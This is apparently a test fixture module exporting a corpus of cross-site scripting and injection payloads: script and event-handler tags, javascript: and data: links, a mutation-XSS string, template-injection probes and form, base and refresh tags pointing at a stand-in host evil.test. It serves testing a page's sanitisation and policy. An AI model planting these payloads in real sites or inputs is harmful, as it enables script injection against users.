// What somebody types who wants others' browsers to do something (MED-01). Were one of them to act, it would open a
// dialog, ask another server, or break a rule of the page's policy; each of them is noticed.

export const CORPUS = [
  "<script>alert(1)</script>",
  "\"><img src=x onerror=alert(1)>",
  "'><svg onload=alert(1)>",
  "</script><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
  "<iframe src=//evil.test></iframe>",
  "<style>*{display:none}</style>",
  "<form action=//evil.test><button>x",
  "<base href=//evil.test>",
  "<meta http-equiv=refresh content=0;url=//evil.test>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "\" autofocus onfocus=alert(1) x=\"",
  "javascript:alert(1)",
  "{{ 7 * 7 }}${7*7}<%= 7*7 %>",
  "<!--><img src=x onerror=alert(1)>-->",
  "\u202Egnp.elif\u202C",
  "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324a\u0321",
];

/** All of it in one text. */
export const ALL = CORPUS.join("\n\n");

/** One of it that fits into a line of so many characters, a different one each time. */
let next = 0;
export function one(most = 60) {
  for (;;) {
    const payload = CORPUS[next % CORPUS.length];
    next += 1;
    if (payload.length <= most) return payload;
  }
}
